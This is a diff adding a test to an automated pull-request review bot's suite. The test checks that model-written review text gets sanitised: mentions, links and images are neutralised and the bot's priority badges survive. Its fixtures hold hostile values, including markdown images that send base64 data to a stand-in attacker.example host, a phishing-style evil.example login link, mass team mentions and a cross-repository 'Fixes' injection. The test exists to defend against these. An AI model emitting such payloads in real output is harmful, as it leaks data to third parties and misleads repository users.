@@ -138,4 +138,25 @@ describe("review task runner (real git and sandbox, fake GitHub that validates r
     expect(JSON.stringify(model.requests[1]!.body)).toContain("Your answer could not be used");
     expect(fake.reviewComments("o", "lib", pullNumber)).toHaveLength(1);
   });
+
+  test("what the model writes reaches the review sanitised; the bot's priority badges and marker survive", async () => {
+    const hostile = "Fixes other/repo#9. ![x](https://attacker.example/?d=c2VjcmV0) See https://evil.example/login.";
+    await setUp([answer("Summary for @org/security ![y](https://attacker.example/y.png)", [
+      { ...zeroDivision, title: "Division by zero, cc @org/everyone", body: hostile },
+      { title: "id() has no tests", body: `Nothing covers id(). ${hostile}`, priority: 1, confidence: 0.8, path: "src/util.js", start_line: 1, end_line: 1, suggestion: null },
+    ])]);
+    await review();
+    const [comment] = fake.reviewComments("o", "lib", pullNumber);
+    expect(comment!.body).toContain("**![P1 Badge](https://img.shields.io/badge/P1-orange?style=flat) Division by zero, cc @\u2060org/everyone**");
+    expect(comment!.body).toContain("other/repo#9. x See https\u2060://evil.example/login.");
+    expect(comment!.body).toContain("```suggestion\n  const q = b === 0 ? 0 : a / b;\n```");
+    const body = fake.reviews("o", "lib", pullNumber)[0]!.body;
+    expect(body).toContain("Summary for @\u2060org/security y");
+    expect(body).toContain("![P1 Badge](https://img.shields.io/badge/P1-orange?style=flat) **id() has no tests**");
+    for (const text of [comment!.body, body]) {
+      expect(text).not.toContain("attacker.example");
+      expect(text).not.toMatch(/fixes other/i);
+    }
+    expect(body).toMatch(/<!-- codex-review: \{"head":"[0-9a-f]{40}"/);
+  });
 });
